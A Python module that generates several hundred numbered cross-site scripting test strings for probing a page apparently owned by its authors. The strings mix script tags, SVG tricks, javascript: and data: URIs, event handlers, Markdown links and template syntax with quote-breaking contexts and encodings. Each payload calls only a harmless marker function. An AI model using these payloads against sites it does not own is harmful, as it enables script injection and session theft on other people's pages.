"""Attempts to run script in a page of ours, five hundred and more, each named by its number."""

from html import escape
from urllib.parse import quote

CALL = "__ran({n})"
HANDLERS = ("onerror", "onload", "onfocus", "onmouseover", "ontoggle", "onanimationstart")
ELEMENTS = (
    "<script>{js}</script>",
    "<script src=data:,{js}></script>",
    "<ScRiPt >{js}</sCrIpT>",
    "<svg><script>{js}</script></svg>",
    "<svg><animate onbegin={js} attributeName=x dur=1s>",
    "<svg onload={js}>",
    "<math><mtext><script>{js}</script></mtext></math>",
    "<iframe srcdoc='<script>parent.{js}</script>'></iframe>",
    "<iframe src=javascript:parent.{js}></iframe>",
    "<object data=javascript:{js}></object>",
    "<embed src=javascript:{js}>",
    "<a href=javascript:{js} autofocus>x</a>",
    "<form action=javascript:{js}><button autofocus>x</button></form>",
    "<button formaction=javascript:{js}>x</button>",
    "<meta http-equiv=refresh content='0;url=javascript:{js}'>",
    "<link rel=stylesheet href=data:text/css,x onload={js}>",
    "<base href=javascript:{js}//>",
    "<style onload={js}>@import 'javascript:{js}'</style>",
    "<template><script>{js}</script></template>",
    "<noscript><p title='</noscript><img src=x onerror={js}>'></noscript>",
    "<!--><img src=x onerror={js}>-->",
    "<![CDATA[><img src=x onerror={js}>]]>",
    "[x](javascript:{js})",
    "![x](javascript:{js})",
    "<javascript:{js}>",
    "[x](data:text/html,<script>{js}</script>)",
    "[x]: javascript:{js}",
    "{{{{ {js} }}}}{{% {js} %}}${{{js}}}#{{{js}}}",
    "'-{js}-'",
    '"-{js}-"',
    "`${{{js}}}`",
    "\\u003cscript\\u003e{js}\\u003c/script\\u003e",
    *(f"<img src=x {handler}={{js}}>" for handler in HANDLERS),
    *(f"<input autofocus {handler}={{js}}>" for handler in HANDLERS),
    *(f"<details open {handler}={{js}}>x</details>" for handler in HANDLERS),
    *(f"<body {handler}={{js}}>" for handler in HANDLERS),
)
# What might come before and around it, where a page would put it.
CONTEXTS = (
    "{0}",
    '">{0}',
    "'>{0}",
    "</textarea>{0}",
    "</title></script>{0}",
    "*{0}*",
    "`{0}`",
    "```\n{0}\n```",
    "- {0}\n- [ ] {0}",
    "--> {0}",
)
ENCODINGS = (str, quote, escape, lambda text: text.replace("<", "\uff1c<"))


def vectors() -> list[str]:
    """Every element in every context, and each element encoded; all different."""
    found = []
    for element in ELEMENTS:
        for context in CONTEXTS:
            found.append(context.format(element.format(js=CALL.format(n=len(found)))))
        for encode in ENCODINGS[1:]:
            found.append(encode(element.format(js=CALL.format(n=len(found)))))
    return found
